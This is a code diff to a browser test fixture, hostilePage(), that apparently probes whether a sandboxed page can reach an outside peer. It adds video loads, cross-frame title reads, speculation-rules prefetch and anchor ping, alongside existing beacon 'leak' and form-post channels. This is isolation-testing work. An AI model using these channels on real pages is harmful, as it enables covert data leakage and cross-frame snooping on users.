@@ -135,6 +135,13 @@ export function hostilePage() {
       tried('script', () => loaded('script', (element) => { element.src = peer + '/script.js' })),
       tried('style', () => loaded('link', (element) => { element.rel = 'stylesheet'; element.href = peer + '/style.css' })),
       tried('prefetch', () => loaded('link', (element) => { element.rel = 'prefetch'; element.href = peer + '/prefetch' })),
+      tried('video', () => new Promise((done, failed) => {
+        const one = document.createElement('video')
+        one.onloadeddata = () => done('loaded')
+        one.onerror = failed
+        one.src = peer + '/video'
+      })),
+      tried('other frames', () => [...Array(top.length).keys()].map((place) => top[place]).filter((one) => one !== parent).map((one) => one[0].document.title)[0]),
       tried('popup', () => window.open(peer + '/popup') ?? undefined),
       tried('service worker', () => navigator.serviceWorker.register('/worker.js').then(() => 'registered')),
       tried('worker elsewhere', () => new Promise((done, failed) => {
@@ -150,6 +157,15 @@ export function hostilePage() {
     ])
     // These act without an answer: a peer, or the test, sees whether they got through.
     navigator.sendBeacon(peer + '/beacon', 'leak')
+    const rules = document.createElement('script')
+    rules.type = 'speculationrules'
+    rules.text = JSON.stringify({ prefetch: [{ urls: [peer + '/speculation'], eagerness: 'immediate' }] })
+    document.body.append(rules)
+    const link = document.createElement('a')
+    link.href = '#here'
+    link.ping = peer + '/ping'
+    document.body.append(link)
+    link.click()
     const form = document.createElement('form')
     form.method = 'post'
     form.action = peer + '/form'
